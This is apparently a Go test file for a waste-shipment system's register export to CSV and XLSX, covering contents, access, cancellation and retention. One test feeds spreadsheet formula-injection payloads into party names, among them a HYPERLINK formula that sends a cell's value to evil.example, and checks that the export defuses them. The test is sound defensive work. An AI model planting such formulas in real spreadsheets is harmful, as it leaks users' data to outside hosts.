package tests

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/wasteflow/wasteflow/configs"
	"github.com/wasteflow/wasteflow/models/dbtest"
	"github.com/wasteflow/wasteflow/workflows/documents"
)

// exported starts an export as user and waits until it is DONE; it
// returns the file and the last answer.
func (d *docEnv) exported(t *testing.T, user, face string, body map[string]any) ([]byte, map[string]any) {
	t.Helper()
	id := d.okAs(t, user, face+"ExportRegister", body)["exportId"].(string)
	deadline := time.Now().Add(30 * time.Second)
	for {
		m := d.okAs(t, user, face+"GetRegisterExport", map[string]any{"exportId": id})
		switch m["state"] {
		case "DONE":
			file, err := base64.StdEncoding.DecodeString(m["document"].(string))
			if err != nil {
				t.Fatal(err)
			}
			return file, m
		case "FAILED", "CANCELLED":
			t.Fatalf("export %s: %v", id, m)
		}
		if time.Now().After(deadline) {
			t.Fatalf("export %s not done in 30 s: %v", id, m)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func column(name string) int {
	for i, c := range documents.RegisterColumns {
		if c.Key == name {
			return i
		}
	}
	panic("no column " + name)
}

// The register of an organisation: one row per document it is a party to
// and per note of its store, with codes, quantities, parties and their
// numbers, dates and deadlines; CSV by RFC 4180 and XLSX, English and
// German; worked by the job queue in slices (pages of 7 documents here);
// only the requesting organisation reads it; cancelled, it keeps nothing.
func TestRegisterExport(t *testing.T) {
	parallel(t)
	dbtest.Each(t, func(t *testing.T, dbcfg configs.Database) {
		d := startDocs(t, dbcfg)
		d.workJobs(t)
		nid := d.consented(t, shippable(3))
		ndoc, _ := d.get(t, "alice", nid)
		mv := d.ok(t, "alice", co+"CreateMovementTemplate", map[string]any{"notificationId": nid, "movementTemplate": template("2026-12-07", 40)})
		mid := mv["id"].(string)
		d.advanceTo(t, "2026-12-07")
		d.ok(t, "tom", co+"SetCarrierTransport", map[string]any{"documentId": mid, "carrierTransport": map[string]any{"takenOverOn": "2026-12-07"}})
		d.advanceTo(t, "2026-12-08")
		d.ok(t, "rita", co+"SetFacilityReception", map[string]any{"documentId": mid, "facilityReception": map[string]any{"receivedOn": "2026-12-08",
			"quantity": map[string]any{"tonnes": map[string]any{"units": "39"}}}})
		d.ok(t, "alice", co+"CreateAnnex7", map[string]any{"annex7": announcement()})
		for range 20 {
			d.submitted(t)
		}
		_, x := d.bmuOK(t, "CreateDocument", map[string]any{"document": fullBGS(t)})
		d.okAs(t, "alice", docAPI+"ImportTransportDocument", map[string]any{"document": x})

		file, m := d.exported(t, "alice", co, map[string]any{"from": "2026-12-01", "to": "2026-12-31"})
		rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
		if err != nil {
			t.Fatalf("not RFC 4180 CSV: %v", err)
		}
		if !bytes.Contains(file, []byte("\r\n")) || strings.Join(rows[0], ",") != strings.Join(documents.RegisterHeader("en"), ",") {
			t.Fatalf("header: %v", rows[0])
		}
		if len(rows) != 1+24 || m["rows"] != "24" || fmt.Sprint(m["progress"]) != "map[done:24 total:24]" {
			t.Fatalf("%d rows, answer %v", len(rows)-1, m)
		}
		byNumber := map[string][]string{}
		for _, r := range rows[1:] {
			byNumber[r[column("number")]] = r
		}
		check := func(number string, want map[string]string) {
			t.Helper()
			r := byNumber[number]
			if r == nil {
				t.Fatalf("no row %s", number)
			}
			for col, v := range want {
				if got := r[column(col)]; !strings.Contains(got, v) {
					t.Errorf("%s %s = %q, want %q", number, col, got, v)
				}
			}
		}
		check(ndoc["number"].(string), map[string]string{"kind": "Notification", "state": "Consented", "filed_on": "2026-12-01", "ewc_codes": "16 02 13*",
			"notifier": "ACME (acme) [I123E45678]", "carriers": "Carrier (truck) [E234F56781], Germany; Barge carrier (barge), Netherlands", "authorities": "LfU Bayern (auth-de)",
			"decision": "auth-de: Consent", "notified_t": "100", "shipped_t": "40", "shipment_to": "2027-06-30", "deadlines": "Decision due: Met, 2026-12-31", "deadlines_met": "4"})
		check(mv["number"].(string), map[string]string{"kind": "Movement", "notification_number": ndoc["number"].(string), "shipped_t": "40",
			"received_t": "39", "received_on": "2026-12-08", "shipment_from": "2026-12-07", "facility": "Recycling (recyc)"})
		check("11681570210293", map[string]string{"kind": "Consignment note", "ewc_codes": "170503*", "shipped_t": "12.5", "notifier": "ACME Elektronik GmbH [I123E45678]",
			"carriers": "Spedition Schnell GmbH [E234F56781]", "facility": "Deponie Süd GmbH", "shipment_from": "2026-12-01"})

		// An authority's register in German, as XLSX: its notifications.
		file, _ = d.exported(t, "noor", au, map[string]any{"kinds": []string{"NOTIFICATION"}, "format": "XLSX", "language": "de"})
		x2, err := excelize.OpenReader(bytes.NewReader(file))
		if err != nil {
			t.Fatalf("not an XLSX file: %v", err)
		}
		sheet, err := x2.GetRows("Register")
		if err != nil {
			t.Fatal(err)
		}
		if len(sheet) != 1+21 || sheet[0][0] != "Nummer" || sheet[0][column("ewc_codes")] != "AVV-Schlüssel" || sheet[1][column("kind")] != "Notifizierung" {
			t.Fatalf("the XLSX: %d rows, header %v", len(sheet), sheet[0])
		}

		// Only its organisation reads an export; bad requests change nothing.
		id := d.okAs(t, "alice", co+"ExportRegister", map[string]any{"kinds": []string{"BGS"}})["exportId"].(string)
		st, _, raw := d.call(t, "rita", co+"GetRegisterExport", map[string]any{"exportId": id})
		wantError(t, 404, 5, st, raw, id)
		for body, field := range map[string]string{`{"format":"PDF"}`: "format", `{"from":"2026-12-31","to":"2026-12-01"}`: "to",
			`{"kinds":["NOTIFICATION","X"]}`: "kinds[1]", `{"from":"1.12.2026"}`: "from"} {
			st, _, raw := d.call(t, "alice", co+"ExportRegister", json.RawMessage(body))
			wantError(t, 400, 3, st, raw, field)
		}
		// Past the retention an export is deleted, file and all (once its
		// job has written the file: a job still running would write chunks
		// after the expiry).
		for deadline := time.Now().Add(30 * time.Second); d.okAs(t, "alice", co+"GetRegisterExport", map[string]any{"exportId": id})["state"] != "DONE"; time.Sleep(20 * time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatalf("export %s not done in 30 s", id)
			}
		}
		if n, err := d.deps.Registers.Expire(context.Background(), d.clock.Now().Add(8*24*time.Hour), 7*24*time.Hour); err != nil || n < 3 {
			t.Fatalf("expired %d: %v", n, err)
		}
		st, _, raw = d.call(t, "alice", co+"GetRegisterExport", map[string]any{"exportId": id})
		wantError(t, 404, 5, st, raw, id)
		var left int64
		d.db.Table("register_export_chunks").Count(&left)
		if left != 0 {
			t.Fatalf("%d chunks left after the retention", left)
		}
	})
}

// A cancelled export ends CANCELLED, its job with it, and never runs; a
// finished export is answered as it is. (The queue is not worked until
// after the cancel, so the export is surely still queued.)
func TestRegisterExportCancel(t *testing.T) {
	parallel(t)
	dbtest.Each(t, func(t *testing.T, dbcfg configs.Database) {
		d := startDocs(t, dbcfg)
		d.submitted(t)
		id := d.okAs(t, "alice", co+"ExportRegister", map[string]any{})["exportId"].(string)
		if g := d.okAs(t, "alice", co+"GetRegisterExport", map[string]any{"exportId": id}); g["state"] != "QUEUED" {
			t.Fatalf("before the queue works: %v", g)
		}
		if c := d.okAs(t, "alice", co+"CancelRegisterExport", map[string]any{"exportId": id}); c["state"] != "CANCELLED" || c["finishedAt"] == nil {
			t.Fatalf("cancelled: %v", c)
		}
		var job string
		d.db.Raw("SELECT state FROM river_job WHERE id = (SELECT job_id FROM register_exports WHERE id = ?)", id).Scan(&job)
		if job != "cancelled" {
			t.Fatalf("the export's job is %q, want cancelled", job)
		}
		d.workJobs(t)
		done, _ := d.exported(t, "alice", co, map[string]any{}) // the queue works: another export runs
		time.Sleep(100 * time.Millisecond)
		if g := d.okAs(t, "alice", co+"GetRegisterExport", map[string]any{"exportId": id}); g["state"] != "CANCELLED" || g["document"] != "" || g["rows"] != "0" {
			t.Fatalf("the cancelled export after the queue ran: %v", g)
		}
		if len(done) == 0 {
			t.Fatal("the other export has no file")
		}
		last := d.okAs(t, "alice", co+"ExportRegister", map[string]any{})["exportId"].(string)
		for d.okAs(t, "alice", co+"GetRegisterExport", map[string]any{"exportId": last})["state"] != "DONE" {
			time.Sleep(20 * time.Millisecond)
		}
		if c := d.okAs(t, "alice", co+"CancelRegisterExport", map[string]any{"exportId": last}); c["state"] != "DONE" {
			t.Fatalf("a finished export cancelled: %v", c)
		}
	})
}

// TestRegisterCSVHasNoFormulas (issue 44.4): a transport note's values
// are written by whoever made the note. ACME (alice) names its producer,
// carrier and facility with values a spreadsheet would run as formulas,
// one for each leading character OWASP names (=, +, -, @, tab, carriage
// return); the carrier (tom, another company) takes the note from its
// inbox into its store and exports its register as CSV: every such cell
// is text ("'" before it), the XLSX keeps the values exact.
func TestRegisterCSVHasNoFormulas(t *testing.T) {
	parallel(t)
	dbtest.Each(t, func(t *testing.T, dbcfg configs.Database) {
		d := startDocs(t, dbcfg)
		d.workJobs(t)
		payloads := [][3]string{ // producer, carrier, facility of each note
			{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+1+2", "-1+2"},
			{"@SUM(1+2)", "\t=1+2", "\r=1+2"},
		}
		st, tm, raw := d.getAs(t, "alice", "/svc.core.v1.api.DocumentTemplateApi/ExportTransportTemplate?templateId.id=tpl-acme")
		if st != 200 {
			t.Fatalf("export template: %d %.300s", st, raw)
		}
		taken := map[string]bool{}
		for i, p := range payloads {
			note := completeNote()
			bgs := note["bgs"].(map[string]any)
			bgs["erzeuger"].(map[string]any)["name"] = inLayer(p[0])
			bgs["befoerderer"].([]any)[0].(map[string]any)["name"] = inLayer(p[1])
			bgs["entsorger"].(map[string]any)["name"] = inLayer(p[2])
			_, x := d.bmuAs(t, "alice", "CreateDocumentFromTemplate", map[string]any{"templateXml": b64(t, tm["document"])})
			_, x = d.bmuAs(t, "alice", "UpdateDocument", map[string]any{"docXml": x, "document": note})
			d.okAs(t, "alice", docAPI+"ImportTransportDocument", map[string]any{"document": x})
			in := d.inbox(t, "tom", nil)
			if len(in) != i+1 {
				t.Fatalf("carrier's inbox: %v", in)
			}
			var id string
			for _, e := range in {
				if !taken[e["id"].(string)] {
					id = e["id"].(string)
				}
			}
			taken[id] = true
			st, em, raw := d.getAs(t, "tom", docAPI+"ExportCurrentDocument?docId.id="+id)
			if st != 200 {
				t.Fatalf("carrier's export: %d %.200s", st, raw)
			}
			_, y := d.bmuAs(t, "tom", "AddLayer", map[string]any{"docXml": b64(t, em["document"]), "layerType": "BEFOERDERER"})
			_, y = d.bmuAs(t, "tom", "UpdateDocument", map[string]any{"docXml": y, "document": map[string]any{"bgs": map[string]any{
				"befoerderer": []any{map[string]any{"uebernahmeDatum": inLayer("2026-12-02")}}}}})
			d.okAs(t, "tom", docAPI+"ImportTransportDocument", map[string]any{"document": y})
		}

		file, _ := d.exported(t, "tom", co, map[string]any{"from": "2026-12-01", "to": "2026-12-31", "kinds": []string{"BGS"}})
		rows, err := csv.NewReader(bytes.NewReader(file)).ReadAll()
		if err != nil {
			t.Fatalf("not RFC 4180 CSV: %v", err)
		}
		if len(rows) != 1+len(payloads) {
			t.Fatalf("%d rows: %q", len(rows)-1, rows)
		}
		// The XML of a note turns a carriage return into a line feed: the
		// value arrives as "\n=1+2", quoted as well.
		arrived := func(v string) string { return strings.ReplaceAll(v, "\r", "\n") }
		var cells []string
		for _, r := range rows[1:] {
			for col, v := range r {
				if l := strings.TrimLeft(v, " \t\r\n"); l != "" && strings.ContainsRune("=+-@", rune(l[0])) || v != "" && strings.ContainsRune("\t\r", rune(v[0])) {
					t.Errorf("column %s is a formula: %q", documents.RegisterColumns[col].Key, v)
				}
				cells = append(cells, v)
			}
		}
		for _, p := range payloads {
			for _, v := range p {
				if !slices.ContainsFunc(cells, func(c string) bool { return strings.HasPrefix(c, "'"+arrived(v)+" [") }) {
					t.Errorf("%q is not in the CSV as text ('%s); rows %q", v, v, rows[1:])
				}
			}
		}

		// The XLSX export writes cells as text: the values exactly.
		file, _ = d.exported(t, "tom", co, map[string]any{"from": "2026-12-01", "to": "2026-12-31", "kinds": []string{"BGS"}, "format": "XLSX"})
		x, err := excelize.OpenReader(bytes.NewReader(file))
		if err != nil {
			t.Fatal(err)
		}
		sheet, err := x.GetRows("Register")
		if err != nil {
			t.Fatal(err)
		}
		var xcells []string
		for _, r := range sheet[1:] {
			xcells = append(xcells, r...)
		}
		for _, p := range payloads {
			for _, v := range p {
				if !slices.ContainsFunc(xcells, func(c string) bool { return strings.HasPrefix(c, arrived(v)+" [") }) {
					t.Errorf("the XLSX lacks %q: %q", v, sheet[1:])
				}
			}
		}
	})
}
